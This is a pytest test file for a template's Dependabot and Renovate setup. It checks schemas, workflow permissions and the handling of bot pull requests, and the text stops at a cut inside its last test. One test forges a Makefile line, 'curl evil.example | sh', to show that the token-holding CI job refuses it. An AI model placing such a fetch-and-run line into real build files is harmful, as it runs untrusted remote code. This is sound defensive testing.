"""The bots: their files against their schemas, their workflows linted, and their pull requests
rehearsed. A bot's edit is made in a git repository the way Dependabot or Renovate makes it, then
the generated workflow's own steps (or the GitLab job's script) run on it, `uses:` steps acted out."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable

import pytest
import yaml

from conftest import TEMPLATE, find_tool, linked, made_once, render_project
from engine import DOCKER, Registry, make, running_registry
from fakes import closed_port

BIN = Path(sys.executable).parent
WORKFLOWS = (".github/workflows/bots.yml", ".github/workflows/refresh.yml")
GENERATED = {"base/requirements.txt", "base/Dockerfile", "Dockerfile"}
OLD_FLASK = "3.0.3"  # the pin the rehearsals start from; the bots move it to the newest Flask
BOT = ["-c", "user.name=dependabot[bot]", "-c", "user.email=49699333+dependabot[bot]@users.noreply.github.com"]
ME = ["-c", "user.name=t", "-c", "user.email=t@example.com"]


def tool(name: str) -> str:
    how = "`make test` installs it from requirements-dev.txt"
    return find_tool(name, how, how)


def git(cwd: Path, *args: str) -> str:
    result = subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True)
    assert result.returncode == 0, f"git {' '.join(args)}: {result.stderr}"
    return result.stdout.strip()


def load(path: Path) -> Any:
    return json.loads(path.read_text()) if path.suffix == ".json" else yaml.safe_load(path.read_text())


def pin(project: Path, name: str = "flask") -> str:
    found = re.search(rf"^{name}==(\S+)", (project / "base" / "requirements.txt").read_text(), re.M)
    assert found, name
    return found.group(1)


def entry(lock: str, name: str) -> str:
    """One package's `name==version \\ --hash=...` lines of a lock."""
    found = re.search(rf"^{name}==\S+ \\\n(?:    --hash=sha256:[0-9a-f]{{64}}(?: \\)?\n)+", lock, re.M)
    assert found, name
    return found.group(0)


def upstream_line(project: Path) -> str:
    """base/Dockerfile's FROM line below `# linked-builds:lock`."""
    lines = (project / "base" / "Dockerfile").read_text().splitlines()
    return next(lines[n + 1] for n, line in enumerate(lines) if line.startswith("# linked-builds:lock "))


def set_upstream_digest(project: Path, digest: str) -> None:
    path = project / "base" / "Dockerfile"
    old = upstream_line(project)
    path.write_text(path.read_text().replace(old + "\n", re.sub(r"(@sha256:[0-9a-f]{64})?$", "@" + digest, old,
                                                                  count=1) + "\n"))


def check(project: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["make", "--no-print-directory", "check"], cwd=project, capture_output=True, text=True)


# ------------------------------------------------------------------ static


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Both CI files and both bots, unlocked: made once per run, read only."""
    return made_once(tmp_path_factory, "bots-project", lambda folder: render_project(
        folder / "project", lock=False, ci=["github", "gitlab"], bots=["dependabot", "renovate"])) / "project"


@pytest.mark.parametrize(("path", "schema"), [(".github/dependabot.yml", "vendor.dependabot"),
                                              ("renovate.json", "vendor.renovate"),
                                              *((w, "vendor.github-workflows") for w in WORKFLOWS),
                                              (".gitlab-ci.yml", "vendor.gitlab-ci")])
def test_bot_files_match_their_vendored_schemas(project: Path, path: str, schema: str) -> None:
    result = subprocess.run([tool("check-jsonschema"), "--builtin-schema", schema, str(project / path)],
                            capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr


def test_bot_workflows_pass_zizmor_and_actionlint(project: Path) -> None:
    files = [str(project / w) for w in WORKFLOWS]
    zizmor = subprocess.run([tool("zizmor"), "--offline", "--no-progress", *files], capture_output=True, text=True)
    assert zizmor.returncode == 0, zizmor.stdout + zizmor.stderr
    actionlint = subprocess.run([tool("actionlint"), "-no-color", *files], capture_output=True, text=True)
    assert actionlint.returncode == 0, actionlint.stdout + actionlint.stderr


def test_bot_workflows_pin_actions_and_grant_least_privilege(project: Path) -> None:
    uv_version = re.search(r"uv:(\d+\.\d+\.\d+)", (TEMPLATE / "template/base/linked.py").read_text())
    assert uv_version
    for path in WORKFLOWS:
        text = (project / path).read_text()
        flow = yaml.safe_load(text)
        assert "pull_request_target" not in flow[True] and "workflow_run" not in flow[True]  # `on`, read as True
        assert flow["permissions"] == {}
        for job in flow["jobs"].values():
            assert "permissions" in job and job["permissions"].get("contents", "read") == "read"
            for step in job["steps"]:
                if "uses" in step:
                    assert re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", step["uses"]), step["uses"]
                    assert re.search(re.escape(step["uses"]) + r" # v\d+\.\d+\.\d+\n", text), step["uses"]
                # A job that runs the project's code (make) never keeps credentials: only one that runs
                # nothing but git may (the bots' push; the refresh hands its token to create-pull-request).
                if step.get("uses", "").startswith("actions/checkout@") and any(
                        "run" in s and "make" in s["run"] for s in job["steps"]):
                    assert step["with"]["persist-credentials"] is False
                if step.get("uses", "").startswith("astral-sh/setup-uv@"):
                    assert step["with"]["version"] == uv_version.group(1)  # the uv the tool's image carries
                assert "${{" not in step.get("run", "")  # expressions reach scripts through env only
    bots = yaml.safe_load((project / WORKFLOWS[0]).read_text())
    condition = bots["jobs"]["regenerate"]["if"]
    assert "github.event.pull_request.user.login" in condition and "github.actor" not in condition
    assert '"dependabot[bot]"' in condition and '"renovate[bot]"' in condition
    assert "head.repo.full_name == github.repository" in condition


def test_dependabot_groups_a_week_and_leaves_requirements_in_alone(project: Path) -> None:
    updates = {u["package-ecosystem"]: u for u in load(project / ".github/dependabot.yml")["updates"]}
    assert set(updates) == {"pip", "docker", "github-actions"}
    assert updates["pip"]["directory"] == updates["docker"]["directory"] == "/base"
    assert updates["pip"]["versioning-strategy"] == "lockfile-only"
    for update in updates.values():
        assert update["schedule"]["interval"] == "weekly"
        assert [g["patterns"] for g in update["groups"].values()] == [["*"]]
    assert updates["pip"]["cooldown"]["default-days"] >= 7 and updates["github-actions"]["cooldown"]
    assert updates["docker"]["ignore"] == [{"dependency-name": "*", "update-types": [
        "version-update:semver-major", "version-update:semver-minor"]}]


def test_renovate_leaves_the_pin_alone_and_groups_the_base(project: Path) -> None:
    config = load(project / "renovate.json")
    rules = config["packageRules"]
    assert {"matchDepNames": ["docker.io/example/demo-appbase", "example/demo-appbase"], "enabled": False} \
        .items() <= rules[0].items()
    assert any(r.get("matchFileNames") == ["base/**"] and r.get("groupName") for r in rules)
    assert config["minimumReleaseAge"] and config["postUpgradeTasks"]["executionMode"] == "branch"
    assert set(config["postUpgradeTasks"]["fileFilters"]) == GENERATED
    assert config["enabledManagers"] == ["pip_requirements", "dockerfile", "github-actions", "gitlabci",
                                         "custom.regex"]


def test_renovate_bumps_the_qemu_image_in_both_ci_files(project: Path) -> None:
    """The binfmt image sits in a GitLab variable and a GitHub action's input, where no built-in
    manager looks: the custom manager finds it in each file, and its versioning reads the tag."""
    config = load(project / "renovate.json")
    (manager,) = config["customManagers"]
    python_re = [re.compile(m.replace("(?<", "(?P<")) for m in manager["matchStrings"]]
    versioning = re.compile(manager["versioningTemplate"].removeprefix("regex:").replace("(?<", "(?P<"))
    files = [path for path in (".github/workflows/images.yml", ".gitlab-ci.yml")
             if any(re.search(pattern.strip("/"), path) for pattern in manager["managerFilePatterns"])]
    assert files == [".github/workflows/images.yml", ".gitlab-ci.yml"]
    for path in files:
        found = [m.groupdict() for r in python_re for m in r.finditer((project / path).read_text())]
        assert found and all(f["depName"] == "docker.io/tonistiigi/binfmt" for f in found), (path, found)
        assert all(versioning.match(f["currentValue"]) for f in found), found
    assert any("custom.regex" in r.get("matchManagers", []) and r.get("groupName") == "CI"
               for r in config["packageRules"])


def test_gitlab_refresh_runs_only_in_scheduled_pipelines(project: Path) -> None:
    """The lock (uv, which may run a release's build code) and the push (BOTS_TOKEN, scoped to the
    environment `refresh`, and nothing but git) are two jobs; the registry's password is scoped to the
    publishing jobs' environment, out of the tests' reach."""
    pipeline = load(project / ".gitlab-ci.yml")
    refresh, push = pipeline["refresh"], pipeline["refresh:push"]
    # A stage of their own: GitLab creates no pipeline whose jobs are all in .pre or .post.
    assert pipeline["stages"][0] == "refresh"
    for job in (refresh, push):
        assert job["stage"] == "refresh" and job["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "schedule"'}]
    assert push["variables"]["GIT_STRATEGY"] == "clone"
    uv_version = re.search(r"uv:(\d+\.\d+\.\d+)", (TEMPLATE / "template/base/linked.py").read_text())
    assert uv_version and f"uv=={uv_version.group(1)}" in " ".join(refresh["before_script"])
    assert refresh["script"][:2] == ["make lock UPGRADE=1", "make check"] and "environment" not in refresh
    assert push["needs"] == ["refresh"] and push["environment"] == {"name": "refresh", "action": "prepare"}
    assert "make " not in "\n".join(push["script"]) and "BOTS_TOKEN" not in "\n".join(refresh["script"])
    assert pipeline[".publishing"]["environment"] == {"name": "registry", "action": "prepare"}
    assert "environment" not in pipeline["test"] and "environment" not in pipeline["build"]


def answers(project: Path) -> dict[str, Any]:
    return dict(yaml.safe_load((project / ".copier-answers.yml").read_text()))


def test_bots_answer_defaults_and_switches_files(tmp_path: Path) -> None:
    github = render_project(tmp_path / "github", lock=False)
    assert answers(github)["bots"] == ["dependabot"]
    assert (github / ".github/dependabot.yml").exists() and (github / ".github/workflows/bots.yml").exists()
    assert (github / ".github/workflows/refresh.yml").exists() and not (github / "renovate.json").exists()
    gitlab = render_project(tmp_path / "gitlab", lock=False, ci=["gitlab"])
    assert answers(gitlab)["bots"] == ["renovate"]
    assert (gitlab / "renovate.json").exists() and not (gitlab / ".github").exists()
    assert "gitIgnoredAuthors" not in load(gitlab / "renovate.json")
    none = render_project(tmp_path / "none", lock=False, bots=[])
    assert sorted(p.name for p in (none / ".github").rglob("*.yml")) == ["images.yml", "refresh.yml"]
    assert not (none / "renovate.json").exists()


def test_dependabot_without_github_is_refused(tmp_path: Path) -> None:
    result = subprocess.run(
        [str(BIN / "copier"), "copy", "--trust", "--defaults", "--vcs-ref=HEAD", "--data", "ci=[gitlab]",
         "--data", "bots=[dependabot]", str(TEMPLATE), str(tmp_path / "out")],
        capture_output=True, text=True, env={**os.environ, "LINKED_BUILDS_LOCK_ON_COPY": "0"},
    )
    assert result.returncode != 0
    assert result.stderr.strip().splitlines()[-1].endswith(
        "dependabot: add ci github, or use renovate")
    assert not (tmp_path / "out").exists()


# ------------------------------------------------------- acting out a run


@dataclass
class Run:
    """One workflow run on a pull request: its context, artifacts and the outputs of its jobs."""

    origin: Path
    root: Path
    context: dict[str, str]
    artifacts: dict[str, Path] = field(default_factory=dict)

    def expand(self, value: str, steps: dict[str, dict[str, str]]) -> str:
        def one(m: re.Match[str]) -> str:
            name = m.group(1)
            found = re.fullmatch(r"steps\.([\w-]+)\.outputs\.([\w-]+)", name)
            if found:
                return steps.get(found.group(1), {}).get(found.group(2), "")
            assert name in self.context, f"the rehearsal does not know ${{{{ {name} }}}}"
            return self.context[name]

        return re.sub(r"\$\{\{\s*(.+?)\s*\}\}", one, value)

    def holds(self, condition: str | None, steps: dict[str, dict[str, str]]) -> bool:
        if condition is None:
            return True
        found = re.fullmatch(r"(\S+) == '([^']*)'", condition.strip())
        assert found, f"the rehearsal cannot evaluate `if: {condition}`"
        return self.expand("${{ " + found.group(1) + " }}", steps) == found.group(2)

    def job(self, flow: dict[str, Any], name: str, refused: list[str] | None = None) -> dict[str, str] | None:
        """Run one job's steps in a new workspace; its outputs, or None where its `if:` says skip.

        A failing step fails the test, unless ``refused`` is given: its output is put there and the job ends.
        """
        job = flow["jobs"][name]
        if name != "regenerate" and not self.holds(job.get("if"), {}):  # regenerate's gate is asserted above
            return None
        workspace = self.root / name
        temp = self.root / f"{name}-temp"
        temp.mkdir()
        self.context["runner.temp"] = str(temp)  # each job runs on a runner of its own
        steps: dict[str, dict[str, str]] = {}
        for step in job["steps"]:
            if not self.holds(step.get("if"), steps):
                continue
            given = {k: self.expand(str(v), steps) for k, v in step.get("with", {}).items()}
            if "uses" in step:
                self.act(step["uses"].split("@")[0], given, workspace)
                continue
            output = temp / f"output-{len(steps)}"
            output.write_text("")
            step_env = {k: self.expand(str(v), steps) for k, v in step.get("env", {}).items()}
            script = temp / "step.sh"
            script.write_text(step["run"])
            result = subprocess.run(["bash", "-e", str(script)], cwd=workspace, capture_output=True, text=True,
                                    env={**os.environ, "GITHUB_OUTPUT": str(output), "RUNNER_TEMP": str(temp),
                                         **step_env})
            if result.returncode and refused is not None:
                refused.append(result.stdout + result.stderr)
                return None
            assert result.returncode == 0, f"{step.get('name')}:\n{result.stdout[-3000:]}\n{result.stderr[-3000:]}"
            steps[step.get("id", f"step{len(steps)}")] = dict(
                line.split("=", 1) for line in output.read_text().splitlines() if "=" in line)
        outputs = {k: self.expand(str(v), steps) for k, v in job.get("outputs", {}).items()}
        for key, value in outputs.items():
            self.context[f"needs.{name}.outputs.{key}"] = value
        return outputs

    def act(self, action: str, given: dict[str, str], workspace: Path) -> None:
        """What a `uses:` step does, acted out on this machine."""
        if action == "actions/checkout":
            subprocess.run(["git", "clone", "-q", str(self.origin), str(workspace)], check=True)
            git(workspace, "checkout", "-q", given["ref"])
        elif action == "astral-sh/setup-uv":
            assert shutil.which("uv"), "uv is not on the PATH"
        elif action == "actions/upload-artifact":
            self.artifacts[given["name"]] = Path(given["path"])
        elif action == "actions/download-artifact":
            Path(given["path"]).mkdir(parents=True)
            shutil.copy(self.artifacts[given["name"]], given["path"])
        else:
            raise AssertionError(f"the rehearsal cannot act out {action}")


@dataclass
class Repo:
    """A bare `origin` holding main, and what the rehearsal needs to know about it."""

    origin: Path
    newest_flask: str
    newest_entry: str


@pytest.fixture(scope="module")
def main_repo(tmp_path_factory: pytest.TempPathFactory) -> Repo:
    """A project on main that pins Flask 3.0.3 and an upstream by a digest, in a bare `origin`
    (made once per run: each test pushes to a copy of it).

    The upstream sits behind a closed port, so `make lock` keeps its digest wherever it runs.
    """
    root = made_once(tmp_path_factory, "bots-main", make_main_repo)
    newest = (root / "newest-flask.txt").read_text()
    return Repo(root / "origin.git", newest.split()[0].split("==")[1], newest)


def make_main_repo(root: Path) -> None:
    project = render_project(root / "project", ci=["github", "gitlab"], bots=["dependabot", "renovate"],
                             upstream_image=f"{closed_port()}/library/python:3.13-slim-trixie")
    lock_path = project / "base" / "requirements.txt"
    newest = entry(lock_path.read_text(), "flask")
    old = subprocess.run(["uv", "pip", "compile", "-", "--generate-hashes", "--no-deps", "--no-header",
                          "--no-annotate", "--quiet", "--python-version", "3.13", "--python-platform", "linux",
                          "--no-python-downloads"],
                         input=f"flask=={OLD_FLASK}\n", capture_output=True, text=True, check=True).stdout
    lock_path.write_text(lock_path.read_text().replace(newest, old))
    set_upstream_digest(project, "sha256:" + "a" * 64)
    assert linked(project, "lock").returncode == 0  # keeps 3.0.3 (a pin that still fits) and the digest
    assert pin(project) == OLD_FLASK and check(project).returncode == 0
    git(project, "init", "-q", "-b", "main")
    git(project, "add", "-A")
    git(project, *ME, "commit", "-qm", "main")
    git(root, "clone", "-q", "--bare", str(project), str(root / "origin.git"))
    (root / "newest-flask.txt").write_text(newest)


@pytest.fixture
def repo(main_repo: Repo, tmp_path: Path) -> Iterator[Repo]:
    """A copy of main's origin for one test to push to."""
    origin = tmp_path / "origin.git"
    shutil.copytree(main_repo.origin, origin)
    yield Repo(origin, main_repo.newest_flask, main_repo.newest_entry)


def bot_branch(repo: Repo, tmp_path: Path, branch: str, edit: Callable[[Path], None],
               author: list[str] = BOT) -> tuple[Path, str]:
    """Commit a bot's edit to a new branch of origin, as the bot pushes it: (its clone, its head)."""
    clone = tmp_path / branch.replace("/", "-")
    git(tmp_path, "clone", "-q", str(repo.origin), str(clone))
    git(clone, "switch", "-qc", branch)
    edit(clone)
    git(clone, "add", "-A")
    git(clone, *author, "commit", "-qm", f"Bump on {branch}")
    git(clone, "push", "-q", "origin", branch)
    return clone, git(clone, "rev-parse", "HEAD")


def resync(repo: Repo, tmp_path: Path, branch: str, head: str) -> dict[str, str] | None:
    """The bots workflow (as the branch has it) on the bot's pull request: both jobs, in order."""
    run = Run(repo.origin, tmp_path / f"run-{head[:8]}", {
        "github.event.pull_request.head.sha": head, "github.event.pull_request.head.ref": branch,
        "secrets.BOTS_TOKEN": "a-token"})
    run.root.mkdir()
    flow = yaml.safe_load(git(tmp_path, "--git-dir", str(repo.origin), "show", f"{head}:.github/workflows/bots.yml"))
    outputs = run.job(flow, "regenerate")
    assert outputs is not None
    run.job(flow, "push")
    return outputs


def pushed(repo: Repo, tmp_path: Path, branch: str, since: str) -> tuple[Path, list[str]]:
    """A fresh clone of the branch as origin has it now, and the subjects of the commits after ``since``."""
    clone = tmp_path / f"after-{branch.replace('/', '-')}-{len(list(tmp_path.iterdir()))}"
    git(tmp_path, "clone", "-q", "--branch", branch, str(repo.origin), str(clone))
    subjects = git(clone, "log", "--format=%s", f"{since}..HEAD").splitlines()
    return clone, subjects


def test_dependabot_pin_bump_gets_one_commit_and_passes_check(repo: Repo, tmp_path: Path) -> None:
    def bump(clone: Path) -> None:  # Dependabot keeps the header and rewrites the entry with its new hashes
        lock = clone / "base" / "requirements.txt"
        lock.write_text(lock.read_text().replace(entry(lock.read_text(), "flask"), repo.newest_entry))

    branch = "dependabot/pip/base/base-requirements-0123456789"
    clone, head = bot_branch(repo, tmp_path, branch, bump)
    assert "edited by hand" in check(clone).stderr
    outputs = resync(repo, tmp_path, branch, head)
    assert outputs == {"changed": "true"}
    after, subjects = pushed(repo, tmp_path, branch, head)
    assert len(subjects) == 1 and subjects[0].endswith("[dependabot skip]")
    assert set(git(after, "diff", "--name-only", head, "HEAD").splitlines()) <= GENERATED
    assert git(after, "log", "-1", "--format=%an") == "github-actions[bot]"
    result = check(after)
    assert result.returncode == 0, result.stderr
    assert pin(after) == repo.newest_flask  # the bot's pin kept, its hashes checked by uv
    # The run on the new head finds nothing to do: no second commit, no loop.
    assert resync(repo, tmp_path, branch, git(after, "rev-parse", "HEAD")) == {"changed": "false"}
    assert len(pushed(repo, tmp_path, branch, head)[1]) == 1


def test_dependabot_digest_bump_gets_one_commit_and_passes_check(repo: Repo, tmp_path: Path) -> None:
    branch = "dependabot/docker/base/base-images-0123456789"
    clone, head = bot_branch(repo, tmp_path, branch, lambda c: set_upstream_digest(c, "sha256:" + "b" * 64))
    assert "stale: Dockerfile: pins" in check(clone).stderr
    before = (clone / "base" / "requirements.txt").read_text()
    resync(repo, tmp_path, branch, head)
    after, subjects = pushed(repo, tmp_path, branch, head)
    assert len(subjects) == 1
    assert git(after, "diff", "--name-only", head, "HEAD").splitlines() == ["Dockerfile"]  # sync, not lock
    assert upstream_line(after).endswith("@sha256:" + "b" * 64)
    assert (after / "base" / "requirements.txt").read_text() == before
    result = check(after)
    assert result.returncode == 0, result.stderr


def with_pin_digest(clone: Path) -> None:
    """What Renovate's pinDigests does to the pin: the registry's digest appended to the tag."""
    path = clone / "Dockerfile"
    first, _, rest = path.read_text().partition("\n")
    path.write_text(f"{first}@sha256:{'c' * 64}\n{rest}")


def test_renovate_digest_on_the_pin_alone_is_dropped_in_one_commit(repo: Repo, tmp_path: Path) -> None:
    """The pin is make sync's, which never writes a digest: one on it (a preset's pinDigests, or
    invented) is stale, and the bots job's `make sync` drops it."""
    branch = "renovate/docker.io-example-demo-appbase-digest"
    clone, head = bot_branch(repo, tmp_path, branch, with_pin_digest)
    assert "a digest that `make sync` never writes" in check(clone).stderr
    assert resync(repo, tmp_path, branch, head) == {"changed": "true"}
    after, subjects = pushed(repo, tmp_path, branch, head)
    assert len(subjects) == 1 and git(after, "diff", "--name-only", head, "HEAD").splitlines() == ["Dockerfile"]
    result = check(after)
    assert result.returncode == 0, result.stderr
    assert "@sha256:" not in (after / "Dockerfile").read_text().partition("\n")[0]


def test_renovate_grouped_update_gets_one_commit_and_drops_the_pins_digest(repo: Repo, tmp_path: Path) -> None:
    def update(clone: Path) -> None:
        set_upstream_digest(clone, "sha256:" + "d" * 64)
        lock = clone / "base" / "requirements.txt"
        lock.write_text(lock.read_text().replace(entry(lock.read_text(), "flask"), repo.newest_entry))
        with_pin_digest(clone)

    renovate = ["-c", "user.name=renovate[bot]", "-c", "user.email=29139614+renovate[bot]@users.noreply.github.com"]
    branch = "renovate/base-image-dependencies"
    clone, head = bot_branch(repo, tmp_path, branch, update, renovate)
    # Self-hosted Renovate runs its postUpgradeTasks in its own clone: the same files result.
    tasks = load(clone / "renovate.json")["postUpgradeTasks"]
    own = tmp_path / "renovate-own"
    shutil.copytree(clone, own)
    for command in tasks["commands"]:
        result = subprocess.run(["sh", "-c", command], cwd=own, capture_output=True, text=True)
        assert result.returncode == 0, result.stdout + result.stderr
    resync(repo, tmp_path, branch, head)
    after, subjects = pushed(repo, tmp_path, branch, head)
    assert len(subjects) == 1
    result = check(after)
    assert result.returncode == 0, result.stderr
    first = (after / "Dockerfile").read_text().partition("\n")[0]
    assert "@sha256:" not in first and first != (clone / "Dockerfile").read_text().partition("\n")[0]
    assert upstream_line(after).endswith("@sha256:" + "d" * 64) and pin(after) == repo.newest_flask
    for rel in GENERATED:
        assert (own / rel).read_text() == (after / rel).read_text(), rel


def test_the_pushing_job_refuses_a_patch_beyond_the_generated_files(repo: Repo, tmp_path: Path) -> None:
    """The job holding the token applies only the three generated files, whatever the first job handed over."""
    branch = "dependabot/pip/base/base-requirements-forged"
    clone, head = bot_branch(repo, tmp_path, branch, lambda c: set_upstream_digest(c, "sha256:" + "e" * 64))
    (clone / "Dockerfile").write_text((clone / "Dockerfile").read_text() + "# moved\n")
    (clone / "Makefile").write_text((clone / "Makefile").read_text() + "\nall:\n\tcurl evil.example | sh\n")
    patch = tmp_path / "forged" / "resync.patch"  # the artifact's file, as the first job names it
    patch.parent.mkdir()
    patch.write_text(git(clone, "diff", "--binary") + "\n")
    flow = load(clone / ".github/workflows/bots.yml")
    run = Run(repo.origin, tmp_path / "run", {"github.event.pull_request.head.sha": head,
                                              "github.event.pull_request.head.ref": branch,
                                              "secrets.BOTS_TOKEN": "a-token",
                                              "needs.regenerate.outputs.changed": "true"}, {"resync": patch})
    run.root.mkdir()
    refused: list[str] = []
    assert run.job(flow, "push", refused) is None
    assert refused and "refusing a patch that touches more than the generated files: Makefile" in refused[0]
    assert pushed(repo, tmp_path, branch, head)[1] == []


# A pre-receive hook that writes down the push options it receives, one a line.
PUSH_OPTIONS_HOOK = """#!/bin/sh
i=0
while [ "$i" -lt "${GIT_PUSH_OPTION_COUNT:-0}" ]; do
  eval "option=\\$GIT_PUSH_OPTION_$i"
  printf '%s\\n' "$option" >> @FILE@
  i=$((i + 1))
done
"""


def gitlab_refresh(repo: Repo, tmp_path: Path, name: str) -> subprocess.CompletedProcess[str]:
    """The GitLab refresh job's script in a clone of main, pushing to origin through its HTTPS URL."""
    clone = tmp_path / name
    git(tmp_path, "clone", "-q", str(repo.origin), str(clone))
    pipeline = load(clone / ".gitlab-ci.yml")
    lock = subprocess.run(["sh", "-e", "-c", "\n".join(pipeline["refresh"]["script"])], cwd=clone,
                          capture_output=True, text=True, env={k: v for k, v in os.environ.items() if "TOKEN" not in k})
    assert lock.returncode == 0, lock.stdout + lock.stderr
    git(clone, "checkout", "--", ".")  # the next job's own checkout, with the first one's artifact (refresh.patch)
    push = pipeline["refresh:push"]
    url = "https://gitlab.example.com/group/demo.git"  # the token goes through a credential helper
    env = {**os.environ, **push["variables"], "CI_SERVER_PROTOCOL": "https", "CI_SERVER_HOST": "gitlab.example.com",
           "CI_SERVER_FQDN": "gitlab.example.com", "CI_PROJECT_PATH": "group/demo", "CI_DEFAULT_BRANCH": "main",
           "BOTS_TOKEN": "glpat-test", "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": f"url.{repo.origin}.insteadOf",
           "GIT_CONFIG_VALUE_0": url}
    return subprocess.run(["sh", "-e", "-c", "\n".join(push["script"])], cwd=clone, capture_output=True,
                          text=True, env=env)


def test_gitlab_refresh_pushes_a_branch_that_opens_a_merge_request(repo: Repo, tmp_path: Path) -> None:
    options = tmp_path / "push-options"
    hook = repo.origin / "hooks" / "pre-receive"
    hook.write_text(PUSH_OPTIONS_HOOK.replace("@FILE@", str(options)))
    hook.chmod(0o755)
    git(repo.origin, "config", "receive.advertisePushOptions", "true")
    result = gitlab_refresh(repo, tmp_path, "scheduled")
    assert result.returncode == 0, result.stdout + result.stderr
    after, subjects = pushed(repo, tmp_path, "linked-builds/refresh", "origin/main")
    assert subjects == ["Refresh the base: the newest pins and the upstream's current digest"]
    assert pin(after) == repo.newest_flask and check(after).returncode == 0
    assert options.read_text().splitlines() == [
        "merge_request.create", "merge_request.target=main",
        "merge_request.title=Refresh the base: the newest pins and the upstream's current digest",
        "merge_request.remove_source_branch"]
    # Once main has it, the next schedule finds nothing to move and pushes nothing.
    git(repo.origin, "update-ref", "refs/heads/main", "refs/heads/linked-builds/refresh")
    git(repo.origin, "update-ref", "-d", "refs/heads/linked-builds/refresh")
    again = gitlab_refresh(repo, tmp_path, "next-week")
    assert again.returncode == 0 and "nothing moved: no merge request" in again.stdout
    assert "linked-builds/refresh" not in git(repo.origin, "branch", "--list")


def test_gitlab_refresh_hands_its_token_to_git_through_a_helper(repo: Repo, tmp_path: Path) -> None:
    """BOTS_TOKEN stands in no argument of the push (any process on the runner reads those): a
    credential helper of that one command, which git asks for the host, gives it from the environment."""
    git(tmp_path, "clone", "-q", str(repo.origin), str(tmp_path / "clone"))
    script = "\n".join(load(tmp_path / "clone" / ".gitlab-ci.yml")["refresh:push"]["script"])
    helper = re.search(r"-c credential\.helper= \\\n\s+-c credential\.helper='([^']+)' push ", script)
    assert helper and script.count("BOTS_TOKEN") == helper[1].count("BOTS_TOKEN") == 1, script
    asked = subprocess.run(["git", "-c", "credential.helper=", "-c", f"credential.helper={helper[1]}", "credential",
                            "fill"], input="protocol=https\nhost=gitlab.example.com\n\n", capture_output=True,
                           text=True, env={**os.environ, "BOTS_TOKEN": "glpat-test", "GIT_TERMINAL_PROMPT": "0"})
    assert asked.returncode == 0, asked.stderr
    assert {"username=refresh", "password=glpat-test"} <= set(asked.stdout.splitlines())


# ------------------------------------------------------- refresh, for real


@pytest.fixture(scope="module")
def registry(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Registry]:
    yield from running_registry(tmp_path_factory)


def docker(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([DOCKER, *args], capture_output=True, text=True, env={**os.environ, "DOCKER_BUILDKIT": "1"})


@pytest.mark.engine
def test_weekly_refresh_brings_an_upstream_fix_into_a_published_base(registry: Registry, tmp_path: Path) -> None:
    """An upstream pushed again under its tag reaches a pushed base through the refresh workflow's steps."""
    upstream = f"{registry.host}/bots/python:3.13-slim-trixie"
    assert docker("tag", "python:3.13-slim-trixie", upstream).returncode == 0
    assert docker("push", upstream).returncode == 0
    project = render_project(tmp_path / "p", registry=registry.host, image_namespace="bots", project_slug="fresh",
                             strategy="one-by-one", upstream_image=upstream, platforms=["linux/amd64"])
    first = upstream_line(project)
    assert "@sha256:" in first
    git(project, "init", "-q", "-b", "main")
    git(project, "add", "-A")
    git(project, *ME, "commit", "-qm", "main")
    base_ref = linked(project, "ref").stdout.strip()
    fixed = tmp_path / "fixed"
    fixed.mkdir()
    (fixed / "Dockerfile").write_text(f"FROM {upstream}\nRUN echo patched > /etc/upstream-fix\n")
    refs = [upstream, base_ref]
    try:
        assert docker("build", "--network", "host", "--tag", upstream, str(fixed)).returncode == 0
        assert docker("push", upstream).returncode == 0
        flow = load(project / ".github/workflows/refresh.yml")
        lock, opener = flow["jobs"]["lock"], flow["jobs"]["pull-request"]
        assert [s["uses"].split("@")[0] for s in lock["steps"] if "uses" in s] == [
            "actions/checkout", "astral-sh/setup-uv", "actions/upload-artifact"]
        assert [s["uses"].split("@")[0] for s in opener["steps"] if "uses" in s] == [
            "actions/checkout", "actions/download-artifact", "peter-evans/create-pull-request"]
        assert "secrets" not in json.dumps(lock) and not [s for s in opener["steps"] if "make" in s.get("run", "")]
        runner = {**os.environ, "RUNNER_TEMP": str(tmp_path), "GITHUB_OUTPUT": str(tmp_path / "output")}
        for step in lock["steps"]:  # uv runs here, with no secret in reach
            if "run" in step:
                result = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=project, capture_output=True,
                                        text=True, env=runner)
                assert result.returncode == 0, result.stdout + result.stderr
        assert (tmp_path / "output").read_text() == "changed=true\n"
        git(project, "checkout", "--", ".")  # the pull-request job's fresh checkout takes the patch
        (apply,) = [s for s in opener["steps"] if "run" in s]
        result = subprocess.run(["bash", "-e", "-c", apply["run"]], cwd=project, capture_output=True, text=True,
                                env={**runner, "PATCH": str(tmp_path / "refresh.patch")})
        assert result.returncode == 0, result.stdout + result.stderr
        # create-pull-request commits what moved among its add-paths to its branch.
        request = next(s for s in opener["steps"] if "create-pull-request" in s.get("uses", ""))["with"]
        moved = set(git(project, "diff", "--name-only").splitlines())
        assert not git(project, "ls-files", "--others", "--exclude-standard")
        assert moved and moved <= set(request["add-paths"].split())
        assert upstream_line(project) != first and upstream_line(project).startswith(f"FROM {upstream}@sha256:")
        new_ref = linked(project, "ref").stdout.strip()
        refs.append(new_ref)
        assert new_ref != base_ref
        make(project, "publish", "PUBLISH_ARGS=--tag t1")
        assert new_ref.rsplit(":", 1)[1] in registry.tags("bots/freshbase")
        docker("rmi", "--force", new_ref)
        fix = docker("run", "--rm", "--network", "host", new_ref, "cat", "/etc/upstream-fix")  # pulled back
        assert fix.stdout == "patched\n", fix.stderr
    finally:
        docker("rmi", "--force", *refs, f"{registry.host}/bots/fresh:t1", f"{registry.host}/bots/freshbase:buildcache")


@pytest.mark.parametrize("forged", ["makefile", "rename", "mode"])
def test_the_refresh_pull_request_job_applies_only_the_locks_files(project: Path, tmp_path: Path,
                                                                   forged: str) -> None:
    """The job holding BOTS_TOKEN runs no make and no uv: it applies the first job's patch to the three
    files the lock writes, and refuses one that reaches further: another file, a rename onto one of
    them (numstat names it by its new name alone), a mode change."""
